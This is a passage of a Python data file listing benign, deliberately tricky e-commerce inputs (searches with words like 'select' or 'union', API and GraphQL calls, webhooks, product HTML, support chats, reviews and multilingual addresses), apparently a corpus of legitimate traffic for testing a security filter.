APP_SEARCHES = [
    ("merino socks", "size:M,color:charcoal", "price:asc"),
    ("drop leaf dining table", "material:oak", "rating:desc"),
    ("union jack cushion cover", "", "newest"),
    ("usb-c hub 7 in 1", "brand:anker|ugreen", "price:desc"),
    ("cat tree for large cats", "in_stock:true", "relevance"),
    ("kids' rain boots", "size:29-31,color:yellow", "price:asc"),
    ("espresso tamper 58mm", "price:20..60", "rating:desc"),
    ("select comfort pillow", "", "popularity:desc"),
    ("table lamp & shade", "style:scandi;mid-century", "price:asc"),
    ('1/2" drive socket set', "brand:wera", "price:asc"),
    ("waterproof jacket -kids", "gender:women,size:S", "price:asc,rating:desc"),
    ("echo wall clock", "", "name:asc"),
    ("sleeping bag -5°C", "weight:<1500g", "weight:asc"),
    ("running shoes 10.5 wide", "width:2E,brand:new balance", "discount:desc"),
    ("garden hose 30 m", "", "price:asc"),
    ("script lettering stencil", "category:crafts", "newest"),
    ("café au lait bowl", "set:4", "price:asc"),
    ("100% linen duvet cover king", "color:sage|oat", "rating:desc"),
    ("gift card", "amount:25,50,100", ""),
    ("bass guitar strap leather", "", "relevance"),
]

SPA_SEARCHES = [
    "where is my order #48213?",
    "return policy for sale items",
    "o'neill wetsuit 4/3",
    "how do i delete my account",
    "select & save subscription",
    '"cast iron" skillet 12 inch',
    "order by phone?",
    "fits 2013-2016 models",
    "ps5 & xbox controller charger",
    "tea for two (teapot)",
    "insert coin bank vintage",
    "drop shipping to PO box",
    "i <3 ny mug",
    "C++ primer 6th ed.",
    "wrench 10mm; 13mm",
    "is it dishwasher-safe?",
    "100% wool; no synthetics",
    "men's shoes size 11 || 11.5",
]

CART_CALLS = [
    ("POST", "/api/v2/cart/items", {"sku": "MS-CHR-M", "quantity": 2, "options": {"gift_wrap": False}}),
    ("PATCH", "/api/v2/cart/items/ci_8812", {"quantity": 3}),
    ("POST", "/api/v2/cart/coupons", {"code": "WELCOME-15"}),
    ("POST", "/api/v2/orders", {"cart_id": "c_9f1e22a07b", "shipping": {"method": "express", "address_id": "adr_31"},
                                "payment": {"method": "card", "token": "tok_4c1d9a77e0b2"},
                                "notes": "Please leave it with the neighbour at No. 14 if we're out."}),
    ("PUT", "/api/v2/me/preferences", {"currency": "EUR", "locale": "de-AT",
                                       "newsletter": {"weekly": True, "offers": False}, "theme": "system"}),
    ("POST", "/api/v2/devices", {"platform": "ios", "push_token": "80f2c0d91b7e44a6a3cf0e5b1d2c7a9e4b6f8d0c2e1a3b5c7d9f",
                                 "app_version": "7.4.1", "model": "iPhone15,3", "os": "18.1.1"}),
    ("POST", "/api/v2/wishlists/wl_77/items", {"product_id": "p_20431",
                                               "note": "for Dad's birthday \u2014 the 'big' one, not the travel size"}),
    ("POST", "/api/v2/checkout/gift-message", {"order_id": "ord_48213",
                                               "message": "Happy 30th, Tom\u00e1s! Don't open until Friday ;)",
                                               "from": "Ana & Lu\u00eds"}),
    ("POST", "/api/v2/returns", {"order_id": "ord_47990", "lines": [
        {"line_id": "ol_1", "qty": 1, "reason": "too_small",
         "comment": "Runs about half a size small; the 42 fits like a 41."}], "refund_to": "original"}),
    ("POST", "/api/v2/payments/intents", {"amount": 12950, "currency": "eur", "capture_method": "automatic",
                                          "metadata": {"cart": "c_9f1e22a07b", "channel": "ios"}}),
    ("PATCH", "/api/v2/me", {"display_name": "Kwame A.", "birthday": "1991-07-04",
                             "marketing_consent": {"email": True, "sms": False, "updated_at": "2026-11-30T09:12:44Z"}}),
    ("POST", "/api/v2/stock/notify", {"sku": "KT-17-STEEL", "email": "lea.muller+stock@example.de", "channel": "email"}),
    ("POST", "/api/v2/cart/merge", {"guest_cart": "gc_51aa0e", "strategy": "sum_quantities"}),
    ("POST", "/api/v2/analytics/events", {"session": "s_2f9c01", "events": [
        {"name": "view_item", "ts": 1767023001, "params": {"item_id": "p_1193", "list": "search: price:asc"}},
        {"name": "add_to_cart", "ts": 1767023019, "params": {"value": 24.9, "currency": "EUR"}}]}),
    ("POST", "/api/v2/orders/ord_5521/cancel", {"reason": "ordered_by_mistake",
                                                "comment": "Wrong colour -- meant to pick 'forest', not 'olive'."}),
    ("PUT", "/api/v2/cart/shipping", {"method": "pickup", "store_id": "st_berlin_mitte",
                                      "slot": {"from": "2026-12-18T16:00:00+01:00", "to": "2026-12-18T18:00:00+01:00"}}),
    ("POST", "/api/v2/search/saved", {"name": "Winter boots < \u20ac120", "alerts": True,
                                      "query": {"q": "winter boots", "filter": "price:<120,size:38", "sort": "price:asc"}}),
    ("PUT", "/api/v2/cart/items/ci_9020/personalisation", {"engraving": "J & M \u2022 12.06.2021",
                                                          "font": "script", "preview": True}),
]

JWT_PATHS = [
    "/api/v2/me",
    "/api/v2/orders?status=shipped&expand=items,shipments&limit=10",
    "/api/v2/orders/ord_5521/invoice.pdf",
    "/api/v2/loyalty/balance",
    "/api/v2/addresses?fields=id,label,city",
    "/api/v2/notifications?since=2026-12-01T00:00:00Z&unread=true",
    "/api/v2/recommendations?context=cart&exclude=p_20431,p_1193",
    "/api/v2/stores?near=52.5200,13.4050&radius=5km",
    "/api/v2/cart?include=promotions",
    "/api/v2/returns/rt_903/label",
    "/api/v2/me/sessions",
    "/api/v2/products/p_20431/availability?stores=st_berlin_mitte|st_potsdam",
]

GRAPHQL = [
    ("ProductSearch", "query ProductSearch($term: String!, $first: Int!, $sort: [SortInput!]) { productSearch(term: "
     "$term, first: $first, sort: $sort) { edges { node { id name slug price { amount currency } } } pageInfo { "
     "endCursor hasNextPage } } }",
     {"term": "linen shirt", "first": 24, "sort": [{"field": "PRICE", "direction": "ASC"}]}),
    ("AddReview", "mutation AddReview($input: ReviewInput!) { addReview(input: $input) { id status } }",
     {"input": {"productId": "p_3391", "rating": 4, "title": "Good, but read the sizing note",
                "body": "Lovely fabric and the stitching is neat. It runs large though: I'm usually an M and the S "
                        "fits. Washed it twice at 40\u00b0C, no shrinking so far."}}),
    ("Cart", "query Cart { cart { id lines(first: 50) { quantity merchandise { ... on ProductVariant { id title } } } "
     "cost { totalAmount { amount currencyCode } } } }", {}),
    ("UpdateAddress", "mutation UpdateAddress($id: ID!, $address: AddressInput!) { updateAddress(id: $id, address: "
     "$address) { id formatted } }",
     {"id": "adr_31", "address": {"name": "Zo\u00eb \u00c5kesson-Nystr\u00f6m", "line1": "Storgatan 7 B, lgh 1102",
                                  "city": "G\u00f6teborg", "postcode": "411 38", "country": "SE"}}),
    ("OrderHistory", "query OrderHistory($first: Int!, $after: String) { me { orders(first: $first, after: $after) { "
     "edges { cursor node { id placedAt status } } } } }",
     {"first": 10, "after": g.b64url(json.dumps({"placedAt": "2026-10-02T11:40:00Z", "id": "ord_44102"}).encode())}),
    ("ContactSupport", "mutation ContactSupport($input: TicketInput!) { createTicket(input: $input) { id } }",
     {"input": {"topic": "DELIVERY", "orderId": "ord_48213",
                "message": "Hi, I tried to select a delivery slot for Saturday but the drop-down only shows weekdays. "
                           "Is Saturday delivery not available where I live (postcode 10115)?"}}),
    ("StoreLocator", "query StoreLocator($near: GeoInput!, $radiusKm: Float, $openNow: Boolean) { stores(near: $near, "
     "radiusKm: $radiusKm, openNow: $openNow) { id name openingHours { day from to } } }",
     {"near": {"lat": 48.8566, "lng": 2.3522}, "radiusKm": 10, "openNow": True}),
    ("SetGiftMessage", "mutation SetGiftMessage($orderId: ID!, $message: String!) { setGiftMessage(orderId: $orderId, "
     "message: $message) { ok } }",
     {"orderId": "ord_48551", "message": "Para mi abuela: \u00a1feliz cumplea\u00f1os! \u2014 con cari\u00f1o, Luc\u00eda"}),
    ("ProductDetails", "query ProductDetails($slug: String!) { product(slug: $slug) { id name price { ...PriceFields } "
     "compareAt { ...PriceFields } } } fragment PriceFields on Money { amount currencyCode }",
     {"slug": "stoneware-mug-350ml-moss"}),
    ("SubscribeNewsletter", "mutation SubscribeNewsletter($email: String!, $topics: [Topic!]!) { subscribe(email: "
     "$email, topics: $topics) { status } }",
     {"email": "j.o'hara@example.com", "topics": ["DEALS", "NEW_ARRIVALS"]}),
    ("UpdateProductDescription", "mutation UpdateProductDescription($id: ID!, $html: HTML!) { "
     "updateProduct(id: $id, descriptionHtml: $html) { id updatedAt } }",
     {"id": "p_7781", "html": "<p>Hand-thrown stoneware, <strong>dishwasher-safe</strong>.</p><ul><li>350&nbsp;ml</li>"
                              "<li>\u00d8 9 cm</li></ul><p><em>Each piece varies slightly in glaze.</em></p>"}),
    ("ApplyDiscount", "mutation ApplyDiscount($cartId: ID!, $code: String!) { applyDiscount(cartId: $cartId, code: "
     "$code) { cart { id } userErrors { field message } } }", {"cartId": "c_9f1e22a07b", "code": "XMAS-2026"}),
    ("Recommendations", "query Recommendations($productId: ID!, $withReviews: Boolean = false) { product(id: "
     "$productId) { recommendations(first: 6) { id name reviews(first: 2) @include(if: $withReviews) { rating } } } }",
     {"productId": "p_20431", "withReviews": True}),
    ("AskQuestion", "mutation AskQuestion($productId: ID!, $text: String!) { askQuestion(productId: $productId, "
     "text: $text) { id } }",
     {"productId": "p_6610", "text": "Does the lid seal well enough for soup in a bag? Also \u2014 is the silicone ring "
                                     "food-grade (LFGB) or just 'BPA-free'?"}),
    ("UpdateNotificationSettings", "mutation UpdateNotificationSettings($settings: NotificationSettingsInput!) { "
     "updateNotificationSettings(settings: $settings) { ok } }",
     {"settings": {"orderUpdates": ["PUSH", "EMAIL"], "quietHours": {"from": "22:00", "to": "07:30",
                                                                      "tz": "Europe/Berlin"}}}),
    ("SearchSuggestions", "query SearchSuggestions($prefix: String!, $limit: Int) { suggestions(prefix: $prefix, "
     "limit: $limit) { text kind } }", {"prefix": "sel", "limit": 8}),
    ("ReorderLines", "mutation ReorderLines($orderId: ID!, $lineIds: [ID!]!) { reorder(orderId: $orderId, lineIds: "
     "$lineIds) { cart { id } } }", {"orderId": "ord_44102", "lineIds": ["ol_1", "ol_3"]}),
    ("UpdateWishlistNote", "mutation UpdateWishlistNote($id: ID!, $note: String) { updateWishlist(id: $id, note: "
     "$note) { id } }",
     {"id": "wl_77", "note": "Sizes: me 38, Jonas 44. Colours \u2014 anything except 'mustard' (he says it's "
                             "\"too loud\")."}),
    ("ReportReview", "mutation ReportReview($reviewId: ID!, $reason: ReportReason!, $details: String) { "
     "reportReview(reviewId: $reviewId, reason: $reason, details: $details) { ok } }",
     {"reviewId": "rv_30981", "reason": "SPAM",
      "details": "Same text posted under 6 products; it links to a coupon site and asks people to 'DM for codes'."}),
    ("TrackShipment", "query TrackShipment($number: String!, $carrier: Carrier) { shipment(trackingNumber: $number, "
     "carrier: $carrier) { status events { at location description } } }",
     {"number": "PRC-DE-7741-2290-11", "carrier": "PARCELO"}),
]

WEBHOOKS = [
    ("payflux", {"type": "payment_intent.succeeded", "data": {"object": {
        "id": "pi_3Qx81bL0", "amount": 12950, "currency": "eur", "status": "succeeded",
        "payment_method_details": {"card": {"brand": "visa", "last4": "4242", "exp_month": 9, "exp_year": 2028}},
        "metadata": {"order_id": "ord_48213", "channel": "ios"}}}}),
    ("payflux", {"type": "charge.refunded", "data": {"object": {
        "id": "ch_7YbQ20", "amount_refunded": 2499, "currency": "eur",
        "refunds": [{"id": "re_01", "amount": 2499, "reason": "requested_by_customer"}],
        "receipt_url": "https://pay.payflux.example/receipts/acct_1Nv/ch_7YbQ20/rcpt_Lk9?s=ap"}}}),
    ("payflux", {"type": "customer.updated", "data": {"object": {
        "id": "cus_R2m1", "email": "aoife.o'sullivan@example.ie", "name": "Aoife O'Sullivan",
        "address": {"line1": "4 Quay St", "city": "Galway", "postal_code": "H91 E2K8", "country": "IE"}},
        "previous_attributes": {"email": "aoife.os@example.ie"}}}),
    ("payflux", {"type": "charge.dispute.created", "data": {"object": {
        "id": "dp_1Kq", "amount": 8900, "reason": "product_not_received", "status": "needs_response",
        "evidence_details": {"due_by": 1768000000, "has_evidence": False}}}}),
    ("payflux", {"type": "payout.paid", "data": {"object": {
        "id": "po_9aa1", "amount": 1843210, "arrival_date": 1767139200, "method": "standard",
        "statement_descriptor": "SHOP EXAMPLE PAYOUT"}}}),
    ("payflux", {"type": "checkout.session.completed", "data": {"object": {
        "id": "cs_live_b1Xw", "mode": "payment", "customer_details": {"email": "ren\u00e9e@example.fr",
                                                                      "name": "Ren\u00e9e Dubois-Saint-Clair"},
        "success_url": "https://shop.example/checkout/done?session_id={CHECKOUT_SESSION_ID}",
        "cancel_url": "https://shop.example/cart?canceled=1"}}}),
    ("parcelo", {"event": "shipment.created", "shipment": {
        "id": "shp_5512093", "carrier": "PARCELO", "service": "express",
        "label_url": "https://labels.parcelo.example/v1/labels/shp_5512093.pdf?sig=9c1f0a",
        "to": {"name": "\u0141ukasz Wr\u00f3blewski", "city": "Wroc\u0142aw", "postcode": "50-043", "country": "PL"}}}),
    ("parcelo", {"event": "tracking.updated", "shipment": {"id": "shp_5511870", "events": [
        {"at": "2026-12-14T07:12:00+01:00", "status": "out_for_delivery", "location": "Leipzig Hub"},
        {"at": "2026-12-14T13:48:00+01:00", "status": "delivered",
         "description": "Delivered to mailbox; signed by O'SULLIVAN"}]}}),
    ("parcelo", {"event": "shipment.exception", "shipment": {
        "id": "shp_5512301", "status": "exception", "code": "ADDR_INCOMPLETE",
        "description": "Address incomplete: missing flat/apartment # -- please update within 48h",
        "update_url": "https://track.parcelo.example/u/7Hc2kP?lang=en"}}),
    ("parcelo", {"event": "pickup.scheduled", "pickup": {
        "id": "pk_881", "window": {"from": "2026-12-15T09:00:00Z", "to": "2026-12-15T12:00:00Z"},
        "instructions": "Ring bell 'Lager / Warehouse', ramp at the back; ask for Jens."}}),
    ("parcelo", {"event": "return.received", "return": {
        "id": "rt_903", "order_ref": "ord_47990", "items": [{"sku": "SH-42-BLK", "condition": "unopened"}],
        "notes": "Box slightly dented (corner); contents fine."}}),
    ("ledgerly", {"type": "invoice.finalized", "invoice": {
        "number": "INV-2026-4471", "total": "129.50", "currency": "EUR", "tax": [{"rate": "19%", "amount": "20.68"}],
        "pdf": "https://files.ledgerly.example/inv/INV-2026-4471.pdf?expires=1767600000&sig=a1b2c3"}}),
    ("ledgerly", {"type": "credit_note.created", "credit_note": {
        "number": "CN-2026-0112", "reason": "Price match (competitor at \u20ac89 vs our \u20ac99)", "amount": "10.00"}}),
    ("ledgerly", {"type": "customer.vat_validated", "customer": {
        "reference": "C-4471", "vat_id": "DE123456789", "valid": True, "name": "M\u00fcller & S\u00f6hne GmbH"}}),
]

ADMIN_PRODUCTS = [
    {"title": "Kettle 1.7 L \u2013 brushed steel", "slug": "kettle-17-brushed-steel",
     "description_html": '<p>Our <strong>best-selling</strong> kettle, now in brushed steel.</p><ul><li>1.7&nbsp;L '
                         'capacity</li><li>Auto shut-off &amp; boil-dry protection</li></ul><p><a '
                         'href="https://shop.example/guides/descaling" target="_blank" rel="noopener">How to '
                         'descale</a></p>',
     "seo_title": "Brushed Steel Kettle 1.7L | Shop Example",
     "seo_description": "A quiet, fast-boiling 1.7 L kettle with auto shut-off. Free delivery over \u20ac50."},
    {"title": "Linen shirt \u2013 sage", "slug": "linen-shirt-sage",
     "description_html": '<p>Stonewashed European linen. <em>Relaxed fit</em> \u2014 if you\'re between sizes, go '
                         'down one.</p><img src="https://cdn.shop.example/p/ls-sage/front-1200.webp" alt="Linen '
                         'shirt in sage, front view" width="1200" height="1500" loading="lazy">',
     "seo_title": "Linen Shirt in Sage", "seo_description": "Breathable stonewashed linen; relaxed fit."},
    {"title": "Stoneware mug 350 ml (set of 4)", "slug": "stoneware-mug-350-set-4",
     "description_html": '<h2>Made by hand</h2><p>Thrown in small batches in Stoke-on-Trent.</p><table><thead><tr>'
                         '<th>Size</th><th>Height</th></tr></thead><tbody><tr><td>350 ml</td><td>9.5 cm</td></tr>'
                         '</tbody></table>',
     "seo_title": "Handmade Stoneware Mugs, Set of 4", "seo_description": "Glazed stoneware mugs, 350 ml, set of 4."},
    {"title": "Kids' rain boots", "slug": "kids-rain-boots",
     "description_html": '<p>Natural rubber, pull-on loops, reflective strip.</p><blockquote>"They survived a whole '
                         'autumn of puddles" \u2014 Mia, 7</blockquote>',
     "seo_title": "Kids' Rain Boots \u2013 Natural Rubber", "seo_description": "Pull-on rain boots for kids, sizes 22-35."},
    {"title": "Cast iron skillet 30 cm", "slug": "cast-iron-skillet-30",
     "description_html": '<p>Pre-seasoned. Works on gas, induction &amp; open fire.</p><p><span style="color: '
                         'rgb(185, 28, 28);">Handle gets hot</span> \u2014 use a mitt.</p><div class="video"><iframe '
                         'src="https://www.youtube-nocookie.com/embed/q7Xw2LmA9cE" title="Seasoning your skillet" '
                         'allowfullscreen></iframe></div>',
     "seo_title": "Cast Iron Skillet 30cm, Pre-seasoned", "seo_description": "Heavy cast iron skillet, oven-safe to 260\u00b0C."},
    {"title": "Desk lamp \u201cNordlys\u201d", "slug": "desk-lamp-nordlys",
     "description_html": '<p>Warm-dim LED (2700K \u2192 1800K). Select the brightness with the touch ring; hold to '
                         'switch off.</p><ol><li>Unfold the arm</li><li>Insert the USB-C cable</li><li>Tap once</li></ol>',
     "seo_title": "Nordlys Desk Lamp \u2013 Warm-Dim LED", "seo_description": "Touch-dimmable desk lamp with USB-C."},
    {"title": "Merino socks (3 pairs)", "slug": "merino-socks-3",
     "description_html": "<p>80% merino, 18% nylon, 2% elastane.</p><p><strong>Care:</strong> wash at 30&deg;C, "
                         "don't tumble dry.</p>",
     "seo_title": "Merino Socks, 3-Pack", "seo_description": "Soft merino wool socks in three colours."},
    {"title": "Espresso tamper 58 mm", "slug": "espresso-tamper-58",
     "description_html": "<p>Stainless base, walnut handle. Fits most 58&nbsp;mm portafilters (E61 group etc.).</p>"
                         "<p><small>Not for 54 mm baskets.</small></p>",
     "seo_title": "58mm Espresso Tamper, Walnut", "seo_description": "Flat-base 58 mm tamper with walnut handle."},
    {"title": "Union Jack cushion cover", "slug": "union-jack-cushion-cover",
     "description_html": "<p>Woven jacquard, 45 \u00d7 45 cm, concealed zip. Insert <em>not</em> included.</p>",
     "seo_title": "Union Jack Cushion Cover 45x45", "seo_description": "Jacquard cushion cover; insert sold separately."},
    {"title": "Gift card", "slug": "gift-card",
     "description_html": "<p>Choose an amount &amp; add a message. Delivered by e-mail within minutes; valid for 3 "
                         "years.</p><p>Questions? <a href=\"mailto:help@shop.example\">help@shop.example</a></p>",
     "seo_title": "Digital Gift Card", "seo_description": "E-mail gift cards from \u20ac10 to \u20ac500."},
    {"title": "Sleeping bag \u22125 \u00b0C", "slug": "sleeping-bag-minus-5",
     "description_html": "<p>Comfort 0&nbsp;&deg;C, limit &minus;5&nbsp;&deg;C. Packs to 18 \u00d7 30 cm.</p>"
                         "<p>Tested to EN&nbsp;ISO&nbsp;23537-1.</p>",
     "seo_title": "3-Season Sleeping Bag (-5\u00b0C)", "seo_description": "Lightweight 3-season bag, 1.2 kg."},
    {"title": "Garden hose 30 m", "slug": "garden-hose-30m",
     "description_html": "<p>Kink-free, UV-stable. Includes spray nozzle with 7 patterns (jet, shower, mist\u2026).</p>",
     "seo_title": "30m Garden Hose with Nozzle", "seo_description": "Kink-free 30 m hose, nozzle included."},
    {"title": "Tea for two \u2013 teapot & cups", "slug": "tea-for-two-set",
     "description_html": "<p>600 ml teapot with stainless infuser and two 180 ml cups.</p><p>Colour: <span "
                         "class=\"swatch\" data-colour=\"#7a8b6f\">moss</span></p>",
     "seo_title": "Tea for Two Set", "seo_description": "Teapot with infuser and two cups."},
    {"title": "Leather bass guitar strap", "slug": "leather-bass-strap",
     "description_html": "<p>8 cm wide, padded. Adjustable 105\u2013145 cm.</p><p>Fits 4- &amp; 5-string basses.</p>",
     "seo_title": "Wide Leather Bass Strap", "seo_description": "Padded 8 cm leather strap for bass guitars."},
]

ADMIN_NOTES = [
    "Customer says the tracking link 'just spins'. Checked carrier portal: parcel is at the depot. Told her to wait "
    "until Thu; if nothing, reship & refund postage.",
    "Ran the bulk price update again (the one that does UPDATE products SET price = price * 1.05 WHERE category = "
    "'garden'); spring range is correct now.",
    "Dev note: CDN cache was stale after the deploy, fixed by running `make purge-cdn` -- not a customer issue.",
    "Duplicate account merged: kept the older one (id 88213), moved 3 orders over. Select 'keep history' next time "
    "or the loyalty points drop to 0.",
    "Returns label failed twice with 'invalid postcode'; the space was in the wrong place (SW1A1 AA). Fixed by hand.",
    "Warehouse: drop the backorder for KT-17-STEEL; supplier confirmed delivery on 12/12.",
    "Chargeback: customer claims item not received; carrier proof shows signature 'J. Smith' & a photo at the door. "
    "Uploaded both to the dispute.",
    "Fraud check flagged it because billing country != shipping country; she's a student in Lyon, parents pay. "
    "Approved.",
    "Please don't run the cleanup script (rm of old exports) until finance has downloaded November's CSV.",
    "Customer asked us to delete their data (GDPR Art. 17). Ticket #4411 opened with the DPO; do not export from "
    "the CRM until it's closed.",
    "Price match: competitor at \u20ac89 vs our \u20ac99 -> matched with a \u20ac10 credit, reason code PM-01.",
    "Called twice, no answer. Left voicemail; will try again tomorrow between 9 and 11 as she asked.",
    'Tagged as VIP; free upgrade to express. Wrote "thanks for 10 years!" on the packing slip.',
    "Order split into 2 shipments because the lamp shade is drop-shipped from the supplier; told the customer to "
    "expect 2 tracking e-mails.",
]

CSV_IMPORTS = [
    "sku,price,compare_at\nKT-17-STEEL,59.90,69.90\nMS-CHR-M,24.00,\nLS-SAGE-S,79.00,89.00\n",
    "sku,warehouse,qty\nKT-17-STEEL,LEJ-2,140\nKT-17-STEEL,FRA-1,12\nSH-42-BLK,LEJ-2,0\n",
    "old_url,new_url,code\n/products/kettle-old,/p/kettle-17-brushed-steel,301\n/sale?season=summer,/sale,302\n",
    'email,tags\n"o\'brien.k@example.ie","vip;newsletter"\nmarta.lopez@example.es,wholesale\n',
    'sku,locale,title,description\nLS-SAGE-S,fr-FR,"Chemise en lin, sauge","Lin lav\u00e9; coupe ample"\n'
    'LS-SAGE-S,de-DE,"Leinenhemd \u201eSalbei\u201c","Stonewashed; weiter Schnitt"\n',
    "code,percent_off,expires,usage_limit\nWINTER-10,10,2027-02-28,1000\nSTAFF-25,25,,\n",
    "zone,countries,rate_eur,free_over\nEU-1,\"DE,AT,NL,BE,LU\",4.90,50\nEU-2,\"FR,IT,ES,PT\",6.90,80\n",
    'handle,seo_title,seo_description\nmerino-socks-3,"Merino Socks | 3 Pairs","Warm, soft & breathable \u2013 '
    'select your size"\n',
]

SUPPORT_CHAT = [
    "Hi! I tried to select the express option but the page just reloads. Using Safari on an iPad.",
    "My order says 'delivered' but there's nothing at the door... can you check with the driver?",
    'The promo code FREESHIP doesn\'t work -- it says "invalid or expired" but the email says valid until 31/12',
    "Can I update the shipping address? I typed 12 Elm St; it should be 21 Elm St. Sorry!",
    "Is the size drop-down wrong? It shows 'EU 42 / UK 8' but UK 8 is EU 42.5 I think",
    "I'm a developer and your app crashes when I paste an emoji \U0001F605 into the gift note. iOS 18.1, app 7.4.1",
    "Where do I find my invoice? I need it for my company (VAT ID DE123456789).",
    "Can you delete my old address from the account? The one in Graz.",
    "Hello, the script on the gift card is in French but I ordered English. Can you exchange it?",
    "ok thanks :) one more thing -- do you ship to the Canary Islands? & what about customs?",
    "Your cookie banner keeps coming back every time I open the site, even after I click 'reject all'.",
    "The total is wrong: 2 x 14.99 = 29.98, but the cart says 31.97?",
    "I want to cancel order 48213 and place a new one with the right colour; is that possible before it ships?",
    "Why does tracking say 'exception: consignee address incomplete'? My address has a flat number.",
    "My son ordered this without asking \U0001F644 \u2014 can I return it unopened?",
    "Can I pay with PayPal or only card? Is there an option to pay in 3 instalments?",
    "Seriously? Third time I'm writing. Nobody answers. Order #47990.",
    "hola, \u00bftienen la talla 39 en color negro? gracias",
    "Bonjour, je n'ai pas re\u00e7u l'e-mail de confirmation. Pouvez-vous le renvoyer ?",
    "\u3053\u3093\u306b\u3061\u306f\u3002\u6ce8\u6587\u3057\u305f\u5546\u54c1\u306e\u914d\u9001\u65e5\u3092\u5909\u66f4"
    "\u3067\u304d\u307e\u3059\u304b\uff1f",
    "The app shows 'Error 500 \u2013 something went wrong' when I tap Orders -> Returns. Screenshot attached.",
    "I received the wrong item: got the 'union' pattern instead of 'paisley'. Order 48551.",
]

REVIEWS = [
    (5, "Finally a kettle that's quiet", "Boils 1 L in about 2.5 min & doesn't scream while doing it. The lid "
                                         "opens wide enough to clean inside. 10/10 would buy again."),
    (4, "Great shirt; sizing runs big", "Size down! I'm 182 cm / 78 kg and the M is roomy. Colour is exactly as in "
                                        "the photos (maybe a touch greyer)."),
    (2, "Handle came loose after 3 weeks", "Mug #3 of the set: the handle cracked where it joins the body. "
                                           "Support replaced it quickly, hence 2 stars not 1."),
    (5, "Kids love them", "Survived a muddy school trip; rinse & done. Tip: order one size up for thick socks."),
    (3, "Heavy (as expected) but...", "Seasoning was uneven out of the box -- some grey patches. After two rounds "
                                      "of oil + 250\u00b0C oven it's fine now."),
    (4, "Nice light, odd cable", "The warm-dim is lovely for reading. Only niggle: the USB-C cable is 1 m; "
                                 "I needed 2 m to reach the socket behind the desk."),
    (5, "Best socks I own", "Wore them for a 5-day hike (~90 km). No blisters, no smell (well, almost :-) )."),
    (1, "Wrong size delivered", "Ordered 58 mm, received 53 mm?! Label on the box says 58. Returning."),
    (4, "Looks classy", "Bought it for my British flatmate as a joke \u2014 he actually loves it. Zip is hidden well."),
    (5, "Perfect last-minute present", "Sent at 23:40 on Christmas Eve, arrived in her inbox instantly. Phew."),
    (3, "Warm enough? Depends", "At +2 \u00b0C I was fine in a base layer; at \u22123 \u00b0C I was cold. 'Limit' "
                                "really means limit."),
    (4, "Doesn't kink", "30 m is long; storage is a pain. But no kinks, and the 'mist' setting is great for "
                        "seedlings."),
    (5, "Cute set", "Teapot pours without dripping (rare!). Infuser is fine for rooibos; very fine teas slip "
                    "through a bit."),
    (4, "Comfortable strap", "My 5-string weighs ~4.8 kg and my shoulder is happy after a 2 h rehearsal."),
    (2, "Not what I expected", "Photos make it look dark green; it's more like khaki/olive. Quality is OK though."),
    (5, "\u00a1Excelente!", "Lleg\u00f3 en 2 d\u00edas a Valencia. La calidad es muy buena y el tama\u00f1o "
                           "perfecto."),
    (4, "Gut, aber teuer", "Verarbeitung top, nur der Preis (\u20ac59,90) ist happig. Mit Gutschein OK."),
    (3, "Meh -- 50/50", "Half of the order was great, the other half (the 'select' range) felt cheap. Mixed feelings."),
]

PEOPLE = [
    {"name": "Siobh\u00e1n N\u00ed Bhriain", "line1": "Apt 2, 14 Ranelagh Rd", "city": "Dublin", "postcode": "D06 H9F3",
     "country": "IE"},
    {"name": "D'Arcy O'Malley-Fitzgerald", "line1": "7 St. John's Close", "city": "Cork", "postcode": "T12 AB34",
     "country": "IE"},
    {"name": "Jean-Baptiste Lef\u00e8vre", "line1": "3 bis, rue de l'\u00c9glise", "city": "Rouen",
     "postcode": "76000", "country": "FR"},
    {"name": "\u0141ukasz Wr\u00f3blewski", "line1": "ul. \u015awidnicka 12/4", "city": "Wroc\u0142aw",
     "postcode": "50-068", "country": "PL"},
    {"name": "Nguy\u1ec5n Ng\u1ecdc Tr\u00e2m", "line1": "25 L\u00ea L\u1ee3i, Ph\u01b0\u1eddng B\u1ebfn Ngh\u00e9",
     "city": "TP. H\u1ed3 Ch\u00ed Minh", "postcode": "700000", "country": "VN"},
    {"name": "\u0391\u03bb\u03ad\u03be\u03b1\u03bd\u03b4\u03c1\u03bf\u03c2 \u03a0\u03b1\u03c0\u03b1\u03b4\u03cc"
             "\u03c0\u03bf\u03c5\u03bb\u03bf\u03c2",
     "line1": "\u0395\u03c1\u03bc\u03bf\u03cd 21", "city": "\u0391\u03b8\u03ae\u03bd\u03b1", "postcode": "105 63",
     "country": "GR"},
    {"name": "\u041c\u0430\u0440\u0438\u044f \u0418\u0432\u0430\u043d\u043e\u0432\u0430",
     "line1": "\u0443\u043b. \u041b\u0435\u043d\u0438\u043d\u0430, \u0434. 5, \u043a\u0432. 12",
     "city": "\u041a\u0430\u0437\u0430\u043d\u044c", "postcode": "420111", "country": "RU"},
    {"name": "\u5f20\u4f1f", "line1": "\u671d\u9633\u533a\u5efa\u56fd\u8def 88 \u53f7 3 \u53f7\u697c 1201",
     "city": "\u5317\u4eac", "postcode": "100022", "country": "CN"},
    {"name": "\u4f50\u85e4 \u82b1\u5b50", "line1": "\u6e0b\u8c37\u533a\u795e\u5357 1-2-3 \u30b7\u30e3\u30c8\u30fc"
                                              "\u795e\u5357 405", "city": "\u6771\u4eac\u90fd",
     "postcode": "150-0041", "country": "JP"},
    {"name": "\uae40\ubbfc\uc900", "line1": "\uc11c\uc6b8\ud2b9\ubcc4\uc2dc \ub9c8\ud3ec\uad6c \uc591\ud654\ub85c 45, "
                                            "7\uce35", "city": "\uc11c\uc6b8", "postcode": "04036", "country": "KR"},
    {"name": "\u0645\u062d\u0645\u062f \u0627\u0644\u0623\u062d\u0645\u062f",
     "line1": "\u0634\u0627\u0631\u0639 \u0627\u0644\u0645\u0644\u0643 \u0641\u0647\u062f\u060c \u0645\u0628\u0646"
              "\u0649 12", "city": "\u0627\u0644\u0631\u064a\u0627\u0636", "postcode": "12211", "country": "SA"},
    {"name": "\u05e9\u05e8\u05d4 \u05db\u05d4\u05df", "line1": "\u05e8\u05d7\u05d5\u05d1 \u05d4\u05e8\u05e6\u05dc 10",
     "city": "\u05ea\u05dc \u05d0\u05d1\u05d9\u05d1", "postcode": "6688110", "country": "IL"},
    {"name": "Aur\u00e9lie N'Diaye", "line1": "12, all\u00e9e des Tilleuls", "city": "Lyon", "postcode": "69003",
     "country": "FR"},
    {"name": "J\u00fcrgen Gro\u00df", "line1": "Stra\u00dfe des 17. Juni 135", "city": "Berlin", "postcode": "10623",
     "country": "DE"},
